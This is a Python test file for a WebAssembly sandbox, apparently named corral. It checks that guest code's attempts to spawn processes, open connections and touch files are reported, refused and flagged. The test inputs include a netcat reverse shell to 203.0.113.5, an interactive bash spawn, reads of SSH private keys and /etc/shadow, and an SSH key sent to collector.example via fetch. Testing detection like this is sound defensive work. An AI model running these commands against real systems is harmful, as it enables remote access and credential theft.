"""What code in the WebAssembly guests tries (processes, connections, file operations),
reported to the host as intents and seen as events: the JavaScript guest's stand-ins
(QuickJS's os.exec/std.popen/std.urlGet, Node's fetch/require) and file wrappers, and
the Python guest's opens."""

from __future__ import annotations

from typing import Any

import pytest

import corral
from corral.events import Event, EventBus, SessionEvents
from corral.wasm.guest_events import INTENTS_MAX, GuestIntents


def _events(code: str, language: str = "js", *, monitor: bool = False) -> tuple[Any, list[Event]]:
    bus = EventBus()
    seen: list[Event] = []
    bus.subscribe(seen.append)
    with corral.Sandbox(bus=bus, monitor=monitor) as sb:
        r = sb.js(code) if language == "js" else sb.python(code)
        # the guest's claims; a slow run also brings resource.sample events of that source
        reported = [
            e
            for e in seen
            if e.type == "action.requested"
            and (e.data or {}).get("source") == f"{language}-guest"
        ]
        return r, reported


def _summary(events: list[Event]) -> list[tuple[Any, ...]]:
    out: list[tuple[Any, ...]] = []
    for e in events:
        a = e.action
        assert a is not None
        if a.kind == "exec":
            out.append(("exec", tuple(a.argv), (e.data or {}).get("via")))
        elif a.kind == "net":
            out.append(("net", a.host, a.port, a.url))
        elif a.kind == "file":
            out.append(("file", a.op, a.path))
    return out


TRY = "const t = (f) => { try { f(); } catch (e) { console.log(e.message); } };\n"


def test_js_process_attempts_are_reported_and_fail() -> None:
    r, evs = _events(
        TRY
        + 't(() => os.exec(["nc", "-e", "/bin/sh", "203.0.113.5", "4444"]));\n'
        + 't(() => std.popen("id", "r"));\n'
        + 't(() => require("child_process").execSync("whoami"));\n'
        + 't(() => require("node:child_process").spawn("bash", ["-i"]));\n'
    )
    assert r.exit_code == 0
    assert r.stdout.count("wasi does not support processes.") == 4
    assert _summary(evs) == [
        ("exec", ("nc", "-e", "/bin/sh", "203.0.113.5", "4444"), "os.exec"),
        ("exec", ("/bin/sh", "-c", "id"), "std.popen"),
        ("exec", ("/bin/sh", "-c", "whoami"), "child_process.execSync"),
        ("exec", ("bash", "-i"), "child_process.spawn"),
    ]
    assert all((e.outcome or {}).get("refused") for e in evs)


def test_js_connections_are_reported() -> None:
    r, evs = _events(
        TRY
        + 't(() => std.urlGet("https://evil.example:8443/p?q=1"));\n'
        + 't(() => require("net").connect(4444, "203.0.113.5"));\n'
        + 't(() => require("https").get("https://paste.example/raw/x"));\n'
        + 't(() => require("http").request({hostname: "10.0.0.3", port: 8080}));\n'
        + 'fetch("http://[2001:db8::1]/x").catch((e) => console.log(e.message));\n'
    )
    assert r.exit_code == 0 and "fetch failed" in r.stdout
    assert _summary(evs) == [
        ("net", "evil.example", 8443, "https://evil.example:8443/p?q=1"),
        ("net", "203.0.113.5", 4444, None),
        ("net", "paste.example", 443, "https://paste.example/raw/x"),
        ("net", "10.0.0.3", 8080, None),
        ("net", "2001:db8::1", 80, "http://[2001:db8::1]/x"),
    ]


def test_js_file_operations_are_reported() -> None:
    r, evs = _events(
        TRY
        + 't(() => std.loadFile("/workspace/.ssh/id_rsa"));\n'
        + 't(() => { const f = std.open("out.txt", "w"); f.puts("x"); f.close(); });\n'
        + 't(() => std.open("out.txt", "r").close());\n'
        + 't(() => os.open("/etc/shadow", os.O_RDONLY));\n'
        + 't(() => os.open("o2", os.O_WRONLY | os.O_CREAT));\n'
        + 't(() => std.writeFile(".bashrc", "x"));\n'
        + 't(() => os.mkdir("d1"));\n'
        + 't(() => os.rename("d1", "d2"));\n'
        + 't(() => os.remove("d2"));\n'
    )
    assert r.exit_code == 0
    assert _summary(evs) == [
        ("file", "read", "/workspace/.ssh/id_rsa"),
        ("file", "write", "/workspace/out.txt"),
        ("file", "read", "/workspace/out.txt"),
        ("file", "read", "/etc/shadow"),
        ("file", "write", "/workspace/o2"),
        ("file", "write", "/workspace/.bashrc"),
        ("file", "mkdir", "/workspace/d1"),
        ("file", "write", "/workspace/d2"),
        ("file", "delete", "/workspace/d2"),
    ]
    shadow = [e for e in evs if e.action and getattr(e.action, "path", "") == "/etc/shadow"]
    assert (shadow[0].outcome or {}).get("refused") is True


def test_js_files_still_work_and_unknown_modules_fail_as_before() -> None:
    r, _ = _events(
        'const f = std.open("a.txt", "w"); f.puts("hello"); f.close();\n'
        'console.log(std.loadFile("a.txt"));\n'
        'try { require("fs"); } catch (e) { console.log(e.message); }\n'
        "console.log(typeof os.now, typeof std.getenv);\n"
    )
    assert r.stdout.splitlines() == ["hello", "Cannot find module 'fs'", "function function"]


def test_js_intents_are_capped_per_call() -> None:
    r, evs = _events(
        'for (let i = 0; i < 3000; i++) { try { os.exec(["p" + i]); } catch (e) {} }\n'
        "console.log('done');\n"
    )
    assert r.stdout.strip() == "done"
    assert len(evs) == INTENTS_MAX


def test_js_intents_raise_alerts() -> None:
    with corral.Sandbox(monitor=True) as sb:
        code = "try { const c = require('child_process'); c.execSync('x'); } catch (e) {}"
        sb.js(code)
        assert "exec-guest-process-attempt" in {a.rule for a in sb.alerts}


def test_js_key_read_then_fetch_is_exfiltration() -> None:
    with corral.Sandbox(monitor=True) as sb:
        sb.js(
            "const p = ['/workspace/.ssh', 'id_' + 'ed25519'].join('/');\n"
            "const k = std.loadFile(p);\n"
            "fetch('https://collector.example/u?k=' + k).catch(() => {});\n"
        )
        assert "exfil-secret-then-egress" in {a.rule for a in sb.alerts}


def test_node_from_the_shell_reports_intents() -> None:
    bus = EventBus()
    seen: list[Event] = []
    bus.subscribe(seen.append)
    with corral.Sandbox(bus=bus) as sb:
        sb.run("""node -e 'try { os.exec(["curl", "http://x.example"]) } catch (e) {}'""")
    reported = [
        e
        for e in seen
        if e.type == "action.requested" and (e.data or {}).get("source") == "js-guest"
    ]
    assert _summary(reported) == [("exec", ("curl", "http://x.example"), "os.exec")]


# ----------------------------------------------------------------------- Python guest


def test_python_open_modes_are_reported_as_what_they_do() -> None:
    """WASI's O_RDONLY is not 0 and its O_RDWR is O_RDONLY|O_WRONLY: a read is a read."""
    r, evs = _events(
        "import os\n"
        "for m in ('w', 'r', 'rb', 'a', 'r+'):\n"
        "    open('f', m).close()\n"
        "os.close(os.open('f', os.O_RDONLY))\n"
        "os.close(os.open('g', os.O_WRONLY | os.O_CREAT))\n",
        "python",
    )
    assert r.exit_code == 0, r.stderr
    assert _summary(evs) == [
        ("file", "write", "/workspace/f"),
        ("file", "read", "/workspace/f"),
        ("file", "write", "/workspace/f"),  # the append
        ("file", "write", "/workspace/g"),
    ]  # one event per (op, path): the repeats are the same claim
    ops = [(e.data or {}).get("op") for e in evs]
    assert ops == [None, None, "append", None]


def test_python_create_connection_fails_as_an_oserror() -> None:
    r, evs = _events(
        "import socket\n"
        "try:\n    socket.create_connection(('203.0.113.9', 8443))\n"
        "except OSError as e:\n    print('refused', e.errno)\n",
        "python",
    )
    assert r.stdout.strip() == "refused 58"
    assert _summary(evs) == [("net", "203.0.113.9", 8443, None)]


# ------------------------------------------------------------------ forged intent frames


@pytest.mark.parametrize(
    "msg",
    [
        {"kind": "open", "path": "/workspace/x", "file_op": "chmod"},
        {"kind": "open", "path": "/workspace/x", "file_op": "symlink"},
        {"kind": "connect", "host": "h", "port": 70000},
        {"kind": "connect", "host": "h", "port": True},
        {"kind": "connect", "host": "x" * 300},
        {"kind": "spawn", "argv": []},
        {"kind": "spawn", "argv": ["", "x"]},
        {"kind": "spawn", "argv": ["a\x00b"]},
        {"kind": "bogus"},
    ],
)
def test_forged_intents_are_dropped(msg: dict[str, Any]) -> None:
    bus = EventBus()
    seen: list[Event] = []
    bus.subscribe(seen.append)
    take = GuestIntents(SessionEvents(bus, "s"), "js")
    take(msg)
    assert seen == [] and take.dropped == 1


def test_overlong_url_is_left_out_not_the_connection() -> None:
    bus = EventBus()
    seen: list[Event] = []
    bus.subscribe(seen.append)
    GuestIntents(SessionEvents(bus, "s"), "js")(
        {"kind": "connect", "host": "h.example", "port": 443, "url": "https://h/" + "a" * 9000}
    )
    assert len(seen) == 1 and seen[0].action is not None
    assert seen[0].action.url is None  # type: ignore[union-attr]
